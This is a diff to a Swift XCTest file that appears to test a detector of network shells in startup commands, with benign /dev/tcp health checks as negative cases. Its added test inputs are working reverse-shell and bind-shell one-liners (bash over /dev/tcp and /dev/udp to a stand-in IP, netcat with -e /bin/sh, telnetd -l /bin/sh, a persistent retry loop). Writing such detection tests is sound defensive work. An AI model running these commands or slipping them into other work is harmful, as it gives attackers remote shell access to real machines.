@@ -152,5 +152,24 @@ final class AccessChecksTests: XCTestCase {
         XCTAssertEqual(launches("$D $ARGS", ["D": "/usr/sbin/dropbear", "ARGS": "-FB"]),
                        [.acceptsEmptyPasswords("/usr/sbin/dropbear -FB"), .passwordLogin(server: "/usr/sbin/dropbear -FB", allowsEmpty: true)])
         XCTAssertEqual(launches("dropbear -w -p 22"), [])
+        // Redirections keep their `&`: `2>&1 &` ends one command, not two.
+        XCTAssertEqual(StartupCommand.pipelines("nc -l -p 23 -e /bin/sh 2>&1 &"), [["nc", "-l", "-p", "23", "-e", "/bin/sh", "2>&1"]])
+        XCTAssertEqual(StartupCommand.pipelines("a &>/dev/null && b"), [["a", "&>/dev/null"], ["b"]])
+        // Shells on a socket bash opens itself (reverse shells), also inside `sh -c`.
+        XCTAssertEqual(launches("bash -i >& /dev/tcp/192.0.2.7/4444 0>&1 &"), [.networkShell("bash -i >& /dev/tcp/192.0.2.7/4444 0>&1")])
+        XCTAssertEqual(launches("0<&196;exec 196<>/dev/tcp/192.0.2.7/443; sh <&196 >&196 2>&196"),
+                       [.networkShell("sh <&196 >&196 2>&196")])
+        XCTAssertEqual(launches("ExecStart=/bin/bash -c 'bash -i >& /dev/udp/192.0.2.7/53 0>&1'"),
+                       [.networkShell("bash -i >& /dev/udp/192.0.2.7/53 0>&1")])
+        XCTAssertEqual(launches("nohup sh -c \"nc -l -p 23 -e /bin/sh\" &").count, 1, "netcat inside sh -c")
+        // Health checks that only connect: no shell on the socket.
+        XCTAssertEqual(launches("until (echo > /dev/tcp/127.0.0.1/5432) 2>/dev/null; do sleep 1; done"), [])
+        XCTAssertEqual(launches("timeout 1 bash -c '</dev/tcp/localhost/80' && echo up"), [])
+        XCTAssertEqual(launches("exec 3<>/dev/tcp/example.org/80; echo -e 'GET / HTTP/1.0' >&3; cat <&3"), [])
+        XCTAssertEqual(launches("bash -i"), [], "an interactive shell without a socket")
+        // Commands after shell keywords.
+        XCTAssertEqual(launches("(while true; do bash -i >& /dev/tcp/192.0.2.7/8443 0>&1; sleep 300; done) &"),
+                       [.networkShell("bash -i >& /dev/tcp/192.0.2.7/8443 0>&1")])
+        XCTAssertEqual(launches("if [ -x /usr/sbin/telnetd ]; then telnetd -l /bin/sh; fi"), [.networkShell("telnetd -l /bin/sh")])
     }
 }
